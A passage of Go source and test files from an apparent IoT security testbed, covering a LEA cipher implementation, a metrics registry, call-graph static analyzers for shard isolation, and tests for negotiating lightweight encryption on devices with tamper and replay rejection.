	x1 := binary.LittleEndian.Uint32(src[4:])
	x2 := binary.LittleEndian.Uint32(src[8:])
	x3 := binary.LittleEndian.Uint32(src[12:])
	for i := 0; i < c.rounds; i++ {
		rk := &c.rk[i]
		y0 := bits.RotateLeft32((x0^rk[0])+(x1^rk[1]), 9)
		y1 := bits.RotateLeft32((x1^rk[2])+(x2^rk[3]), -5)
		y2 := bits.RotateLeft32((x2^rk[4])+(x3^rk[5]), -3)
		x0, x1, x2, x3 = y0, y1, y2, x0
	}
	binary.LittleEndian.PutUint32(dst[0:], x0)
	binary.LittleEndian.PutUint32(dst[4:], x1)
	binary.LittleEndian.PutUint32(dst[8:], x2)
	binary.LittleEndian.PutUint32(dst[12:], x3)
}

func (c *lea) Decrypt(dst, src []byte) {
	checkBlock("LEA", 16, dst, src)
	x0 := binary.LittleEndian.Uint32(src[0:])
	x1 := binary.LittleEndian.Uint32(src[4:])
	x2 := binary.LittleEndian.Uint32(src[8:])
	x3 := binary.LittleEndian.Uint32(src[12:])
	for i := c.rounds - 1; i >= 0; i-- {
		rk := &c.rk[i]
		p0 := x3
		p1 := (bits.RotateLeft32(x0, -9) - (p0 ^ rk[0])) ^ rk[1]
		p2 := (bits.RotateLeft32(x1, 5) - (p1 ^ rk[2])) ^ rk[3]
		p3 := (bits.RotateLeft32(x2, 3) - (p2 ^ rk[4])) ^ rk[5]
		x0, x1, x2, x3 = p0, p1, p2, p3
	}
	binary.LittleEndian.PutUint32(dst[0:], x0)
	binary.LittleEndian.PutUint32(dst[4:], x1)
	binary.LittleEndian.PutUint32(dst[8:], x2)
	binary.LittleEndian.PutUint32(dst[12:], x3)
}
