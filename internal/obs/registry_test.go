package obs

import (
	"strings"
	"sync"
	"testing"
)

func TestRegistryGetOrCreate(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("core.ingested")
	c.Inc()
	c.Add(2)
	if r.Counter("core.ingested") != c {
		t.Error("second Counter lookup returned a different instrument")
	}
	if c.Value() != 3 {
		t.Errorf("counter = %d, want 3", c.Value())
	}
	g := r.Gauge("net.inflight")
	g.Set(5)
	g.Add(-2)
	if g.Value() != 3 {
		t.Errorf("gauge = %d, want 3", g.Value())
	}
	h := r.Histogram("ingest.ns")
	for _, v := range []uint64{0, 1, 3, 3, 900} {
		h.Observe(v)
	}
	if h.Count() != 5 || h.Sum() != 907 {
		t.Errorf("hist count=%d sum=%d", h.Count(), h.Sum())
	}
	buckets := h.Buckets()
	// 0 -> bucket le 0; 1 -> le 1; 3,3 -> le 3; 900 -> le 1023.
	want := []HistBucket{{0, 1}, {1, 1}, {3, 2}, {1023, 1}}
	if len(buckets) != len(want) {
		t.Fatalf("buckets = %v, want %v", buckets, want)
	}
	for i := range want {
		if buckets[i] != want[i] {
			t.Errorf("bucket %d = %v, want %v", i, buckets[i], want[i])
		}
	}
}

func TestNilRegistryAndInstruments(t *testing.T) {
	var r *Registry
	c, g, h := r.Counter("x"), r.Gauge("y"), r.Histogram("z")
	c.Inc()
	c.Add(5)
	g.Set(1)
	g.Add(1)
	h.Observe(7)
	if c.Value() != 0 || g.Value() != 0 || h.Count() != 0 || h.Sum() != 0 || h.Buckets() != nil {
		t.Error("nil instruments retained state")
	}
	if s := r.Snapshot(); len(s.Counters)+len(s.Gauges)+len(s.Histograms) != 0 {
		t.Errorf("nil registry snapshot = %+v", s)
	}
}

// TestSnapshotSorted pins the determinism contract: snapshots are
// name-sorted regardless of creation order.
func TestSnapshotSorted(t *testing.T) {
	r := NewRegistry()
	for _, name := range []string{"zeta", "alpha", "mid"} {
		r.Counter(name).Inc()
		r.Gauge(name).Set(1)
		r.Histogram(name).Observe(1)
	}
	s := r.Snapshot()
	for i, want := range []string{"alpha", "mid", "zeta"} {
		if s.Counters[i].Name != want || s.Gauges[i].Name != want || s.Histograms[i].Name != want {
			t.Fatalf("snapshot not sorted: %+v", s)
		}
	}
	str := s.String()
	for _, line := range []string{"counter alpha 1", "gauge mid 1", "hist zeta count=1 sum=1"} {
		if !strings.Contains(str, line) {
			t.Errorf("String() missing %q:\n%s", line, str)
		}
	}
}

// TestRegistryConcurrent is the obs race smoke test: parallel get-or-
// create + increments against concurrent snapshots, with a final-count
// invariant. Run under -race in CI.
func TestRegistryConcurrent(t *testing.T) {
	const workers, perWorker = 8, 400
	r := NewRegistry()
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWorker; i++ {
				r.Counter("shared").Inc()
				r.Gauge("depth").Add(1)
				r.Histogram("lat").Observe(uint64(i))
				if w == 0 && i%50 == 0 {
					_ = r.Snapshot()
				}
			}
		}(w)
	}
	wg.Wait()
	if got := r.Counter("shared").Value(); got != workers*perWorker {
		t.Errorf("counter = %d, want %d", got, workers*perWorker)
	}
	if got := r.Histogram("lat").Count(); got != workers*perWorker {
		t.Errorf("hist count = %d, want %d", got, workers*perWorker)
	}
}
