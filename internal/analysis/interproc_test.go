package analysis

// Tests for the interprocedural determinism/shard-safety layer: the
// call-graph engine's edge classification, fixpoint and witness chains,
// the detflow/globalmut/maporder fixtures, the transitive half of
// hotpathalloc, and a fuzz smoke over graph construction.

import (
	"go/parser"
	"go/token"
	"strings"
	"testing"
)

// TestDetFlowFixture runs the OLD intraprocedural determinism rule and
// detflow together over the fixture: every expectation in the tree is
// detflow's, which proves the cross-package clock helpers are invisible
// to the per-file rule and caught by the graph.
func TestDetFlowFixture(t *testing.T) {
	g := NewCallGraph()
	det := []string{fixtureModule + "/internal/sim"}
	checkFixture(t, "detflow", NewDeterminism(det, g), NewDetFlow(det, g))
}

func TestGlobalMutFixture(t *testing.T) {
	checkFixture(t, "globalmut", NewGlobalMut([]string{fixtureModule + "/internal/sim"}, nil))
}

func TestMapOrderFixture(t *testing.T) {
	sinks := []TaintRef{
		{Pkg: "fmt", Name: "Println"},
		{Pkg: "fmt", Name: "Printf"},
	}
	checkFixture(t, "maporder", NewMapOrder([]string{fixtureModule + "/internal/sim"}, sinks, nil))
}

// TestHotPathTransFixture exercises the transitive half of hotpathalloc,
// which only activates on a shared graph (nil keeps the historical
// intraprocedural behavior, pinned by TestHotPathAllocFixture).
func TestHotPathTransFixture(t *testing.T) {
	checkFixture(t, "hotpathtrans", NewHotPathAlloc(NewCallGraph()))
}

// graphPackages parses one file per package from src keyed by import
// path, sharing a fileset the way LoadModule does.
func graphPackages(t *testing.T, srcs map[string]string) []*Package {
	t.Helper()
	fset := token.NewFileSet()
	var pkgs []*Package
	// Deterministic package order for Build.
	var paths []string
	for p := range srcs {
		paths = append(paths, p)
	}
	for i := 0; i < len(paths); i++ {
		for j := i + 1; j < len(paths); j++ {
			if paths[j] < paths[i] {
				paths[i], paths[j] = paths[j], paths[i]
			}
		}
	}
	for _, path := range paths {
		name := strings.ReplaceAll(path, "/", "_") + ".go"
		file, err := parser.ParseFile(fset, name, srcs[path], parser.ParseComments|parser.SkipObjectResolution)
		if err != nil {
			t.Fatalf("parsing %s: %v", path, err)
		}
		pkgs = append(pkgs, &Package{
			ImportPath: path,
			Fset:       fset,
			Files:      []File{{Name: name, AST: file}},
		})
	}
	return pkgs
}

// TestCallGraphEdgeKinds pins the edge classification: plain, deferred,
// spawned and closure calls plus method/function value references.
func TestCallGraphEdgeKinds(t *testing.T) {
	g := NewCallGraph()
	g.Build(graphPackages(t, map[string]string{
		"example.com/m/a": `package a

import "example.com/m/b"

type T struct{}

func (T) M() {}

func caller() {
	b.Helper()
	defer b.Helper()
	go b.Helper()
	func() { b.Helper() }()
	f := b.Helper
	var t T
	m := t.M
	_, _ = f, m
}
`,
		"example.com/m/b": `package b

func Helper() {}
`,
	}))

	fn := g.Func(funcKey("example.com/m/a", "", "caller"))
	if fn == nil {
		t.Fatal("caller not indexed")
	}
	got := make(map[string]int)
	for _, e := range fn.Edges {
		if e.Fallback {
			t.Errorf("unexpected fallback edge to %s", e.Callee)
		}
		kind := [...]string{"call", "defer", "go", "closure", "ref"}[e.Kind]
		got[FuncDisplay(e.Callee)+"/"+kind]++
	}
	want := map[string]int{
		"b.Helper/call":    1,
		"b.Helper/defer":   1,
		"b.Helper/go":      1,
		"b.Helper/closure": 1,
		"b.Helper/ref":     1,
		"a.(T).M/ref":      1,
	}
	for k, n := range want {
		if got[k] != n {
			t.Errorf("edge %s: got %d, want %d (all: %v)", k, got[k], n, got)
		}
	}
	for k := range got {
		if _, ok := want[k]; !ok {
			t.Errorf("unexpected edge %s (all: %v)", k, got)
		}
	}
}

// TestCallGraphFixpoint checks bottom-up propagation, the recursion
// cap, and maxFacts truncation to the smallest elements.
func TestCallGraphFixpoint(t *testing.T) {
	g := NewCallGraph()
	g.Build(graphPackages(t, map[string]string{
		"example.com/m/p": `package p

func a() { b() }

func b() { c(); c() }

func c() { c() }
`,
	}))
	key := func(name string) string { return funcKey("example.com/m/p", "", name) }
	direct := map[string][]string{
		key("c"): {"zulu", "alpha"},
	}
	follow := func(CallEdge) bool { return true }

	all := g.Fixpoint(direct, follow, 0)
	for _, name := range []string{"a", "b", "c"} {
		if got := strings.Join(all[key(name)], ","); got != "alpha,zulu" {
			t.Errorf("facts(%s) = %q, want %q", name, got, "alpha,zulu")
		}
	}

	one := g.Fixpoint(direct, follow, 1)
	if got := strings.Join(one[key("a")], ","); got != "alpha" {
		t.Errorf("witness facts(a) = %q, want smallest element %q", got, "alpha")
	}
}

// TestCallGraphChain checks the witness path and the follow predicate's
// pruning.
func TestCallGraphChain(t *testing.T) {
	g := NewCallGraph()
	g.Build(graphPackages(t, map[string]string{
		"example.com/m/p": `package p

func a() { b() }

func b() { go c() }

func c() {}
`,
	}))
	key := func(name string) string { return funcKey("example.com/m/p", "", name) }
	isC := func(k string) bool { return k == key("c") }

	chain := g.Chain(key("a"), isC, func(CallEdge) bool { return true })
	if got := displayChain(chain); got != "p.a → p.b → p.c" {
		t.Errorf("chain = %q, want %q", got, "p.a → p.b → p.c")
	}
	callsOnly := g.Chain(key("a"), isC, func(e CallEdge) bool { return e.Kind == EdgeCall })
	if callsOnly != nil {
		t.Errorf("calls-only chain = %v, want nil (c only reachable via go)", callsOnly)
	}
	if g.Chain(key("missing"), isC, func(CallEdge) bool { return true }) != nil {
		t.Error("chain from unindexed key should be nil")
	}
}

// FuzzCallGraph feeds arbitrary source through graph construction, the
// fixpoint and the chain search, asserting none of them panic or loop —
// self-recursion, mutual recursion and ambiguous method names included.
// scripts/check.sh runs this as a smoke target.
func FuzzCallGraph(f *testing.F) {
	f.Add("package p\nfunc a() { a() }")
	f.Add("package p\nfunc a() { b() }\nfunc b() { a() }")
	f.Add("package p\ntype T struct{}\nfunc (T) M() { var t T; f := t.M; f() }")
	f.Add("package p\nfunc a() { defer a(); go a(); func() { a() }() }")
	f.Add("package p\nimport \"time\"\nfunc a() { _ = time.Now }")
	f.Fuzz(func(t *testing.T, src string) {
		fset := token.NewFileSet()
		file, err := parser.ParseFile(fset, "fuzz.go", src, parser.ParseComments|parser.SkipObjectResolution)
		if err != nil {
			t.Skip()
		}
		pkg := &Package{
			ImportPath: "fuzz",
			Fset:       fset,
			Files:      []File{{Name: "fuzz.go", AST: file}},
		}
		g := NewCallGraph()
		g.Build([]*Package{pkg})
		direct := make(map[string][]string)
		for _, key := range g.Keys() {
			direct[key] = []string{FuncDisplay(key)}
		}
		facts := g.Fixpoint(direct, func(CallEdge) bool { return true }, 1)
		for _, key := range g.Keys() {
			_ = g.Chain(key, func(k string) bool { return len(facts[k]) > 0 }, func(CallEdge) bool { return true })
		}
	})
}
