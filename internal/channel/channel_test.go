package channel

import (
	"bytes"
	"errors"
	"testing"
	"testing/quick"

	"xlf/internal/device"
	"xlf/internal/lwc"
)

func TestNegotiatePrefersStrongAffordable(t *testing.T) {
	reg := lwc.NewRegistry()

	// Bulb-class: 8 KB RAM. Expect a 128-bit+ lightweight cipher, never
	// DES-class.
	bulb, err := device.ProfileByName("Philips Hue Lightbulb")
	if err != nil {
		t.Fatal(err)
	}
	info, err := Negotiate(bulb, reg)
	if err != nil {
		t.Fatal(err)
	}
	if info.DefaultKeyBits() < 128 {
		t.Errorf("bulb negotiated %s (%d-bit)", info.Name, info.DefaultKeyBits())
	}

	// Tiny RFID tag: nothing fits.
	tag, err := device.ProfileByName("HID Glass Tag Ultra (RFID)")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Negotiate(tag, reg); !errors.Is(err, ErrNoCipher) {
		t.Errorf("tag negotiation err = %v, want ErrNoCipher", err)
	}

	// Phone-class: should land on the strongest key size available.
	phone, err := device.ProfileByName("iPhone 6s Plus")
	if err != nil {
		t.Fatal(err)
	}
	pInfo, err := Negotiate(phone, reg)
	if err != nil {
		t.Fatal(err)
	}
	if pInfo.DefaultKeyBits() < 128 {
		t.Errorf("phone negotiated %s", pInfo.Name)
	}
}

func TestNegotiateNeverPicksDES(t *testing.T) {
	reg := lwc.NewRegistry()
	for _, p := range device.Table1() {
		info, err := Negotiate(p, reg)
		if err != nil {
			continue
		}
		if info.Name == "DES" || info.Name == "DESL" {
			t.Errorf("%s negotiated broken cipher %s", p.Name, info.Name)
		}
	}
}

func pair(t *testing.T) (*Session, *Session) {
	t.Helper()
	reg := lwc.NewRegistry()
	info, _ := reg.Lookup("PRESENT")
	key := bytes.Repeat([]byte{7}, 10)
	a, err := New(info, key)
	if err != nil {
		t.Fatal(err)
	}
	b, err := New(info, key)
	if err != nil {
		t.Fatal(err)
	}
	return a, b
}

func TestSealOpenRoundTrip(t *testing.T) {
	a, b := pair(t)
	for _, msg := range []string{"", "x", "temperature=71.5", "a much longer telemetry payload spanning several blocks of the cipher"} {
		sealed, err := a.Seal([]byte(msg))
		if err != nil {
			t.Fatal(err)
		}
		got, err := b.Open(sealed)
		if err != nil {
			t.Fatalf("Open(%q): %v", msg, err)
		}
		if string(got) != msg {
			t.Errorf("roundtrip = %q, want %q", got, msg)
		}
	}
}

func TestConfidentialityAndFreshness(t *testing.T) {
	a, _ := pair(t)
	s1, _ := a.Seal([]byte("secret telemetry"))
	s2, _ := a.Seal([]byte("secret telemetry"))
	if bytes.Contains(s1, []byte("secret")) {
		t.Error("plaintext leaked")
	}
	if bytes.Equal(s1[8:], s2[8:]) {
		t.Error("identical ciphertexts for repeated plaintext (nonce reuse)")
	}
}

func TestTamperAndReplayRejected(t *testing.T) {
	a, b := pair(t)
	sealed, _ := a.Seal([]byte("unlock door"))
	// Bit flips anywhere are rejected.
	for i := range sealed {
		mut := append([]byte(nil), sealed...)
		mut[i] ^= 1
		if _, err := b.Open(mut); err == nil {
			t.Fatalf("bit flip at %d accepted", i)
		}
	}
	// First delivery fine, replay rejected.
	if _, err := b.Open(sealed); err != nil {
		t.Fatal(err)
	}
	if _, err := b.Open(sealed); !errors.Is(err, ErrReplay) {
		t.Errorf("replay err = %v, want ErrReplay", err)
	}
	// Short garbage.
	if _, err := b.Open([]byte{1, 2, 3}); !errors.Is(err, ErrTooShort) {
		t.Errorf("short err = %v", err)
	}
}

func TestReorderRejected(t *testing.T) {
	a, b := pair(t)
	s1, _ := a.Seal([]byte("one"))
	s2, _ := a.Seal([]byte("two"))
	if _, err := b.Open(s2); err != nil {
		t.Fatal(err)
	}
	// The earlier nonce is now stale: strict monotonicity.
	if _, err := b.Open(s1); !errors.Is(err, ErrReplay) {
		t.Errorf("stale nonce err = %v, want ErrReplay", err)
	}
}

func TestForDeviceMetersBattery(t *testing.T) {
	reg := lwc.NewRegistry()
	bulb := device.NewSmartBulb("b")
	s, err := ForDevice(bulb, reg, []byte("provisioning-key"))
	if err != nil {
		t.Fatal(err)
	}
	before := bulb.BatteryUJ
	if _, err := s.Seal(bytes.Repeat([]byte{1}, 4096)); err != nil {
		t.Fatal(err)
	}
	if bulb.BatteryUJ >= before {
		t.Error("sealing did not drain the battery")
	}
	// AC-powered camera sessions are unmetered but still work.
	cam := device.NewNetworkCamera("c")
	cs, err := ForDevice(cam, reg, []byte("k"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cs.Seal(bytes.Repeat([]byte{1}, 1<<20)); err != nil {
		t.Fatal(err)
	}
	if _, err := ForDevice(bulb, reg, nil); err == nil {
		t.Error("empty key accepted")
	}
}

func TestBatteryExhaustion(t *testing.T) {
	reg := lwc.NewRegistry()
	bulb := device.NewSmartBulb("b")
	bulb.BatteryUJ = 0.001 // nearly dead
	s, err := ForDevice(bulb, reg, []byte("k"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.Seal(bytes.Repeat([]byte{1}, 1<<16)); !errors.Is(err, ErrOutOfEnergy) {
		t.Errorf("err = %v, want ErrOutOfEnergy", err)
	}
}

func TestDeviceGatewayInterop(t *testing.T) {
	// The gateway derives the same session from the same provisioning
	// key by negotiating against the device's profile.
	reg := lwc.NewRegistry()
	bulb := device.NewSmartBulb("b")
	devSide, err := ForDevice(bulb, reg, []byte("pairing-code-1234"))
	if err != nil {
		t.Fatal(err)
	}
	// Gateway side: same negotiation, unmetered.
	info, err := Negotiate(bulb.Profile, reg)
	if err != nil {
		t.Fatal(err)
	}
	gwBulb := device.NewSmartBulb("shadow") // profile twin for key derivation
	gwSide, err := ForDevice(gwBulb, reg, []byte("pairing-code-1234"))
	if err != nil {
		t.Fatal(err)
	}
	if devSide.Algorithm != info.Name || gwSide.Algorithm != info.Name {
		t.Fatalf("algorithms diverge: %s vs %s", devSide.Algorithm, gwSide.Algorithm)
	}
	sealed, err := devSide.Seal([]byte("event:on"))
	if err != nil {
		t.Fatal(err)
	}
	got, err := gwSide.Open(sealed)
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != "event:on" {
		t.Errorf("interop roundtrip = %q", got)
	}
}

func TestSealOpenProperty(t *testing.T) {
	a, b := pair(t)
	f := func(msg []byte) bool {
		sealed, err := a.Seal(msg)
		if err != nil {
			return false
		}
		got, err := b.Open(sealed)
		return err == nil && bytes.Equal(got, msg)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}
