package analysis

// GlobalMut guards the shard-isolation invariant the million-device
// roadmap rests on: once the kernel shards its event loop, any write to
// mutable package-level state reachable from simulation, network-sim,
// experiment or Core code becomes a cross-shard race and a replay
// divergence. The rule finds every assignment (and ++/--) whose target
// resolves to a package-scoped variable, attaches the fact to the
// enclosing function, and propagates it bottom-up over the shared call
// graph. Inside the configured root packages it reports direct writes
// at the assignment and transitive ones at the boundary call site,
// with a witness chain.
//
// init functions are exempt — once-before-main registration is not
// shard state — and so are waived lines: //xlf:allow-globalmut at the
// write site removes the fact for every caller, and at a boundary call
// (or in the calling function's doc comment) waives that root alone.
// Atomic counters mutated through atomic.Add* calls are out of scope
// (the atomicmix rule owns those access patterns).

import (
	"go/ast"
	"go/token"
	"go/types"
)

// AllowGlobalMutMarker waives a globalmut finding on its line (or the
// whole function when placed in the doc comment).
const AllowGlobalMutMarker = "xlf:allow-globalmut"

// GlobalMut reports package-level state mutation reachable from the
// shard-state root packages.
type GlobalMut struct {
	// Roots lists the packages (exact or "prefix/...") whose call trees
	// must stay free of global mutation.
	Roots []string

	graph    *CallGraph
	prepared bool
	// facts maps funcKey → at most one global-write description the
	// function reaches.
	facts map[string][]string
	// direct maps funcKey → the function's own write descriptions.
	direct map[string][]string
	// writes maps funcKey → the function's own write sites, for direct
	// reporting inside root packages.
	writes map[string][]globalWrite
}

// globalWrite is one package-level-variable write site.
type globalWrite struct {
	pos  token.Pos
	desc string // "package-level var pkg.name"
}

// NewGlobalMut builds the analyzer on a shared call graph (nil builds
// a private one).
func NewGlobalMut(roots []string, g *CallGraph) *GlobalMut {
	if g == nil {
		g = NewCallGraph()
	}
	return &GlobalMut{Roots: roots, graph: g}
}

// Name implements Analyzer.
func (gm *GlobalMut) Name() string { return "globalmut" }

// Doc implements Documented.
func (gm *GlobalMut) Doc() string {
	return "sim/netsim/exp/core call trees must not mutate package-level state (shard isolation)"
}

// followGlobalMut matches detflow: every precisely-resolved edge
// counts, fallback guesses do not.
func followGlobalMut(e CallEdge) bool { return !e.Fallback }

// Prepare implements ModuleAnalyzer.
func (gm *GlobalMut) Prepare(pkgs []*Package) {
	if gm.prepared {
		return
	}
	gm.prepared = true
	gm.graph.Build(pkgs)

	gm.direct = make(map[string][]string)
	gm.writes = make(map[string][]globalWrite)
	allowed := make(map[*File]map[int]bool)
	for _, key := range gm.graph.Keys() {
		fn := gm.graph.Func(key)
		if fn.Decl.Recv == nil && fn.Decl.Name.Name == "init" {
			continue // once-before-main registration is not shard state
		}
		pt := gm.graph.oracle.typesOf(fn.Pkg)
		if pt == nil {
			continue
		}
		collect := func(target ast.Expr, pos token.Pos) {
			v := packageLevelVar(pt, target)
			if v == nil {
				return
			}
			if allowed[fn.File] == nil {
				allowed[fn.File] = allowedLines(fn.Pkg.Fset, fn.File.AST, AllowGlobalMutMarker)
			}
			if allowed[fn.File][fn.Pkg.Fset.Position(pos).Line] {
				return
			}
			w := globalWrite{pos: pos, desc: "package-level var " + shortLock(v.Pkg().Path()+"."+v.Name())}
			gm.writes[key] = append(gm.writes[key], w)
			gm.direct[key] = append(gm.direct[key], w.desc)
		}
		ast.Inspect(fn.Decl.Body, func(n ast.Node) bool {
			switch n := n.(type) {
			case *ast.AssignStmt:
				if n.Tok == token.DEFINE {
					return true
				}
				for _, lhs := range n.Lhs {
					collect(lhs, n.Pos())
				}
			case *ast.IncDecStmt:
				collect(n.X, n.Pos())
			}
			return true
		})
	}
	for key, facts := range gm.direct {
		gm.direct[key] = dedupSorted(facts)
	}
	gm.facts = gm.graph.Fixpoint(gm.direct, followGlobalMut, 1)
}

// packageLevelVar resolves an assignment target's root identifier to a
// package-scoped variable, or nil. Writes through selectors, indexes
// and dereferences count: registry[k] = v mutates the global registry.
func packageLevelVar(pt *pkgTypes, e ast.Expr) *types.Var {
	for {
		switch x := e.(type) {
		case *ast.ParenExpr:
			e = x.X
		case *ast.IndexExpr:
			e = x.X
		case *ast.SliceExpr:
			e = x.X
		case *ast.StarExpr:
			e = x.X
		case *ast.SelectorExpr:
			// pkg.Var resolves via the Sel; field chains via the root.
			if v := pkgVarObj(pt.info.Uses[x.Sel]); v != nil {
				return v
			}
			e = x.X
		case *ast.Ident:
			if x.Name == "_" {
				return nil
			}
			return pkgVarObj(pt.info.Uses[x])
		default:
			return nil
		}
	}
}

// pkgVarObj filters an object down to a package-scoped *types.Var.
func pkgVarObj(obj types.Object) *types.Var {
	v, ok := obj.(*types.Var)
	if !ok || v.Pkg() == nil || v.Parent() != v.Pkg().Scope() {
		return nil
	}
	return v
}

// Check implements Analyzer: direct writes and boundary calls inside
// the root packages.
func (gm *GlobalMut) Check(pkg *Package) []Finding {
	if !gm.prepared {
		gm.Prepare([]*Package{pkg})
	}
	if !matchPackages(gm.Roots, pkg.ImportPath) {
		return nil
	}
	allowed := make(map[*File]map[int]bool)
	var out []Finding
	for _, key := range gm.graph.Keys() {
		fn := gm.graph.Func(key)
		if fn.Pkg != pkg || fn.File.Test {
			continue
		}
		for _, w := range gm.writes[key] {
			out = append(out, pkg.finding(gm.Name(), w.pos,
				"write to %s in shard-state package %s; move it into per-shard state (or annotate //%s)",
				w.desc, pkg.ImportPath, AllowGlobalMutMarker))
		}
		if allowed[fn.File] == nil {
			allowed[fn.File] = allowedLines(pkg.Fset, fn.File.AST, AllowGlobalMutMarker)
		}
		waived := allowed[fn.File]
		reported := make(map[token.Pos]bool)
		for _, e := range fn.Edges {
			if e.Fallback || e.Kind == EdgeRef || reported[e.Pos] {
				continue
			}
			if matchPackages(gm.Roots, keyPkg(e.Callee)) {
				continue // reported inside the callee's own package
			}
			facts := gm.facts[e.Callee]
			if len(facts) == 0 || waived[pkg.Fset.Position(e.Pos).Line] {
				continue
			}
			reported[e.Pos] = true
			out = append(out, pkg.finding(gm.Name(), e.Pos,
				"call to %s mutates %s (%s) from shard-state package %s; move it into per-shard state (or annotate //%s)",
				FuncDisplay(e.Callee), facts[0], gm.witness(e.Callee), pkg.ImportPath, AllowGlobalMutMarker))
		}
	}
	return out
}

// witness renders the chain from the boundary callee to the writing
// function.
func (gm *GlobalMut) witness(from string) string {
	chain := gm.graph.Chain(from, func(k string) bool { return len(gm.direct[k]) > 0 }, followGlobalMut)
	if chain == nil {
		return "via " + FuncDisplay(from)
	}
	return "via " + displayChain(chain)
}

var (
	_ ModuleAnalyzer = (*GlobalMut)(nil)
	_ Documented     = (*GlobalMut)(nil)
)
