package testbed

import (
	"strings"
	"testing"
	"time"
)

func TestLightweightEncryptionSessions(t *testing.T) {
	h, err := New(Config{Seed: 9, LightweightEncryption: true})
	if err != nil {
		t.Fatal(err)
	}
	// Every catalog device's hardware affords some cipher, so every
	// device gets a session with a gateway peer.
	if len(h.Sessions) != len(h.Devices) {
		t.Errorf("sessions = %d, devices = %d", len(h.Sessions), len(h.Devices))
	}
	for id, s := range h.Sessions {
		peer, ok := h.GatewaySessions[id]
		if !ok {
			t.Errorf("%s has no gateway peer", id)
			continue
		}
		if s.Algorithm != peer.Algorithm {
			t.Errorf("%s negotiated %s but gateway holds %s", id, s.Algorithm, peer.Algorithm)
		}
	}

	// Run: keepalives flow sealed; the gateway peers can open them.
	if err := h.Run(time.Minute); err != nil {
		t.Fatal(err)
	}
	sealedSeen := 0
	for _, r := range h.WANCap.Records() {
		if r.Proto == "XLF-LWC" {
			sealedSeen++
			// Observers never see the payload on encrypted packets.
			if len(r.Payload) != 0 {
				t.Fatal("capture exposed sealed payload bytes")
			}
		}
	}
	if sealedSeen == 0 {
		t.Error("no sealed keepalives on the WAN")
	}

	// Battery drains on battery devices that seal traffic.
	bulb := h.Devices["bulb-1"]
	full := 2.0 * 3600 * 3 * 1e6
	if bulb.BatteryUJ >= full {
		t.Error("bulb battery not drained by sealing")
	}
}

func TestGatewayPeerOpensDeviceTraffic(t *testing.T) {
	h, err := New(Config{Seed: 9, LightweightEncryption: true})
	if err != nil {
		t.Fatal(err)
	}
	devSess := h.Sessions["thermo-1"]
	gwSess := h.GatewaySessions["thermo-1"]
	if devSess == nil || gwSess == nil {
		t.Fatal("missing thermo sessions")
	}
	sealed, err := devSess.Seal([]byte("temperature=70.5"))
	if err != nil {
		t.Fatal(err)
	}
	got, err := gwSess.Open(sealed)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(got), "temperature") {
		t.Errorf("opened = %q", got)
	}
}

func TestEncryptionDisabledByDefault(t *testing.T) {
	h := newHome(t)
	if len(h.Sessions) != 0 {
		t.Error("sessions created without LightweightEncryption")
	}
}
