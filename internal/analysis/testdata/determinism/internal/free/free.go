// Package free is a determinism fixture OUTSIDE the covered package set:
// wall-clock reads here are legal and must produce no findings.
package free

import "time"

// Uptime may read the wall clock; this package is not a simulation path.
func Uptime(start time.Time) time.Duration { return time.Since(start) }

// Stamp returns the current wall time.
func Stamp() time.Time { return time.Now() }
