package analysis

import "testing"

func TestDeadStoreFixture(t *testing.T) {
	checkFixture(t, "deadstore", NewDeadStore())
}

func TestUnreachableFixture(t *testing.T) {
	checkFixture(t, "unreachable", NewUnreachable())
}
