package device

// This file is the device-layer payload origin the cross-layer taint
// rule (xlf-vet's plaintextescape) anchors on: every application payload
// a device emits is built here, so the static analysis can prove that
// payload bytes pass through the channel layer's Seal before any
// netsim send. Constructing payload bytes inline defeats that proof —
// always go through these constructors.

// NewPayload builds the canonical device application payload framing:
// "<kind>:<deviceID>" with an optional ":<body>" tail. The result is
// plaintext device data and must be sealed by the device's negotiated
// channel session before it crosses the network layer.
func NewPayload(deviceID, kind, body string) []byte {
	n := len(kind) + 1 + len(deviceID)
	if body != "" {
		n += 1 + len(body)
	}
	p := make([]byte, 0, n)
	p = append(p, kind...)
	p = append(p, ':')
	p = append(p, deviceID...)
	if body != "" {
		p = append(p, ':')
		p = append(p, body...)
	}
	return p
}

// KeepalivePayload is the periodic cloud-chatter payload every real
// device produces (what the E2 adversary fingerprints by size).
func (d *Device) KeepalivePayload() []byte {
	return NewPayload(d.ID, "keepalive", "")
}

// EventPayload carries one state-change event to the vendor cloud.
func (d *Device) EventPayload(event string) []byte {
	return NewPayload(d.ID, "event", event)
}
