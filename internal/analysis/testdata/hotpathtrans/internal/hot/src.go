// The transitive half of hotpathalloc: a //xlf:hotpath function must
// not call into allocating helpers either, at any depth, with the
// witness chain naming the allocation. Hot callees own their own
// findings and are skipped at the call site.
package hot

type stats struct {
	hist []int
	tags map[string]int
}

// fill allocates directly; calling it from a hot path is the finding.
func fill(s *stats, v int) {
	s.hist = append(s.hist, v)
}

// outer reaches an allocation two calls deep.
func outer(s *stats) { inner(s) }

func inner(s *stats) {
	s.tags = make(map[string]int)
}

// lean touches no allocator at any depth.
func lean(s *stats, v int) {
	if len(s.hist) > 0 {
		s.hist[0] = v
	}
}

//xlf:hotpath
func ingest(s *stats, v int) {
	fill(s, v) // want "\[hotpathalloc\] hot path ingest: call into hot.fill allocates \(append may grow its backing array in hot.fill; via hot.fill\)"
	lean(s, v)
}

//xlf:hotpath
func deep(s *stats) {
	outer(s) // want "\[hotpathalloc\] hot path deep: call into hot.outer allocates \(make allocates in hot.inner; via hot.outer → hot.inner\)"
}

// hot callees are skipped here: drain reports its own body, not its
// callers' call sites.
//
//xlf:hotpath
func chained(s *stats, v int) {
	drain(s, v)
}

//xlf:hotpath
func drain(s *stats, v int) {
	lean(s, v)
}

//xlf:hotpath
func waivedCall(s *stats, v int) {
	fill(s, v) //xlf:allow-hotpath warm-up slot, measured off the steady-state path
}
