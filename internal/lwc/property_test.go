package lwc

import (
	"bytes"
	stddes "crypto/des"
	"math/rand"
	"testing"
	"testing/quick"
)

// TestRoundTripAllAlgorithms checks Decrypt(Encrypt(p)) == p for every
// registered algorithm at every supported key size, over random inputs.
